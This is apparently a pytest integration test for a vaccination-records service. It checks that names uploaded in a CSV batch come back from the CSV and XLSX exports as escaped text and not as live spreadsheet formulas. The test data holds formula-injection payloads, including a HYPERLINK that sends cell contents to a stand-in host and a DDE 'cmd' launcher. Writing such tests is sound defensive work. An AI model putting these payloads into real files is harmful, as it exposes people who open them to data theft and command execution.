"""Findings of the outside attack on a running server (issue 16), each as the request the attacker made."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from tests.integration.web import world as w
from vaxlink.files.write import FORMULA_STARTS

HEADER = "record_id,full_name,date_of_birth,sex,id_number,ward_code,vaccination_date,dose_number,vaccine\n"


def bearer(a: w.Actor) -> dict[str, str]:
    return {"authorization": f"Bearer {a.token}"}


@pytest.mark.db
def test_text_from_a_batch_never_reaches_a_spreadsheet_as_a_formula(client, world):
    health = world.actors[("health_officer", "parent_district")]
    names = ['"=HYPERLINK(""http://x/?""&A1,""Click"")"', "=1+1", "\"+cmd|' /C calc'!A0\"", "@SUM(1;2)"]
    rows = [f"f{i},{n},01/01/1970,Nam,,{w.WARD_A},2021-10-01,1,Pfizer" for i, n in enumerate(names)]
    r = client.post(
        "/api/v1/batches",
        files={"file": ("formulas.csv", (HEADER + "\n".join(rows) + "\n").encode(), "text/csv")},
        headers=bearer(health),
    )
    assert r.status_code == 200, r.text
    bid = r.json()["batch_id"]
    answer = client.get(f"/api/v1/batches/{bid}/answer?format=csv", headers=bearer(health))
    got = [row["full_name"] for row in csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig")))]
    assert got == [
        "'" + v for v in ['=HYPERLINK("http://x/?"&A1,"Click")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1;2)"]
    ]
    xlsx = client.get(f"/api/v1/batches/{bid}/answer?format=xlsx", headers=bearer(health))
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS))
